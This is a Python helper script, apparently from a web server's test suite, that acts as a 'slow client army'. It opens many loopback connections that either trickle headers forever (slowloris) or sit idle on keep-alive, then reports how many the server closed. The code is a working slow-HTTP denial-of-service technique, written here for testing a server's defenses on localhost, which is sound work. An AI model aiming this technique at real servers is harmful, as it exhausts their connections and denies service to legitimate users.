"""A slow client army for the attack tests, run as a process of its own
(so that it competes with the measured client for the machine, not for
Python's lock):

    slowloris.py PORT COUNT SOURCE [MODE] [INTERVAL] [RECONNECT]

opens COUNT connections to 127.0.0.1:PORT from SOURCE, an address
("127.0.0.2") or "many:A.B" for one address per connection in A.B.0.0/16
(loopback: anything in 127.0.0.0/8 is this machine).  MODE "head" sends a
request line and then one header line per round and never ends the head
(slowloris, slowhttptest); "idle" sends one whole request, reads the
answer and then keeps the connection open and silent (idle keep-alive).
A connection the server closes is opened again in a later round, at most
RECONNECT per round of INTERVAL seconds.

Prints "ready N" (N connections open) once every first connection has
been tried, then on SIGTERM one JSON line of counts and exits: opened,
closed_by_server, refused (failed connects), open (at the end).
"""
import errno
import json
import resource
import selectors
import signal
import socket
import sys
import time

stop = False


def on_term(signo, frame):
    global stop
    stop = True


def main():
    port = int(sys.argv[1])
    count = int(sys.argv[2])
    source = sys.argv[3]
    mode = sys.argv[4] if len(sys.argv) > 4 else "head"
    interval = float(sys.argv[5]) if len(sys.argv) > 5 else 1.0
    reconnect = int(sys.argv[6]) if len(sys.argv) > 6 else 200
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    signal.signal(signal.SIGTERM, on_term)

    def src(i):
        if source.startswith("many:"):
            pre = source[5:]
            return "%s.%d.%d" % (pre, (i // 250) % 250, i % 250 + 1)
        return source

    head = (b"GET /about HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n"
            b"User-Agent: slowloris\r\n" % port)
    whole = head + b"\r\n"
    sel = selectors.DefaultSelector()
    st = {"opened": 0, "closed_by_server": 0, "refused": 0}
    connected = set()
    waiting = []            # slots to open again
    pending = 0             # connects under way

    def open_one(i):
        nonlocal pending
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((src(i), 0))
            rc = s.connect_ex(("127.0.0.1", port))
        except OSError:
            s.close()
            st["refused"] += 1
            waiting.append(i)
            return
        if rc not in (0, errno.EINPROGRESS):
            s.close()
            st["refused"] += 1
            waiting.append(i)
            return
        pending += 1
        sel.register(s, selectors.EVENT_WRITE, i)

    def lost(s, i, by_server):
        if s in connected:
            connected.discard(s)
            if by_server:
                st["closed_by_server"] += 1
        try:
            sel.unregister(s)
        except (KeyError, ValueError):
            pass
        s.close()
        waiting.append(i)

    for i in range(count):
        open_one(i)
    ready = False
    rounds = 0
    next_round = time.monotonic() + interval
    while not stop:
        timeout = max(0.0, next_round - time.monotonic())
        for key, ev in sel.select(timeout):
            s, i = key.fileobj, key.data
            if s not in connected:      # connect finished
                pending -= 1
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    st["refused"] += 1
                    sel.unregister(s)
                    s.close()
                    waiting.append(i)
                    continue
                try:
                    s.send(whole if mode == "idle" else head)
                except OSError:
                    st["refused"] += 1
                    sel.unregister(s)
                    s.close()
                    waiting.append(i)
                    continue
                connected.add(s)
                st["opened"] += 1
                sel.modify(s, selectors.EVENT_READ, i)
                continue
            try:
                data = s.recv(65536)
            except OSError:
                data = b""
            if not data:
                lost(s, i, True)
        if time.monotonic() < next_round:
            continue
        next_round = time.monotonic() + interval
        rounds += 1
        if mode == "head":
            for s in list(connected):
                try:
                    s.send(b"X-Slow: %d\r\n" % rounds)
                except OSError:
                    lost(s, sel.get_key(s).data, True)
        again, waiting[:] = waiting[:reconnect], waiting[reconnect:]
        for i in again:
            open_one(i)
        if not ready and (pending == 0 or rounds >= 5):
            ready = True
            print("ready %d" % len(connected), flush=True)
    # Read the ends the server has already sent before counting.
    for _ in range(5):
        events = sel.select(0.2)
        if not events:
            break
        for key, ev in events:
            s = key.fileobj
            if s in connected:
                try:
                    data = s.recv(65536)
                except OSError:
                    data = b""
                if not data:
                    lost(s, key.data, True)
    st["open"] = len(connected)
    print(json.dumps(st), flush=True)
    for key in list(sel.get_map().values()):
        key.fileobj.close()


if __name__ == "__main__":
    main()
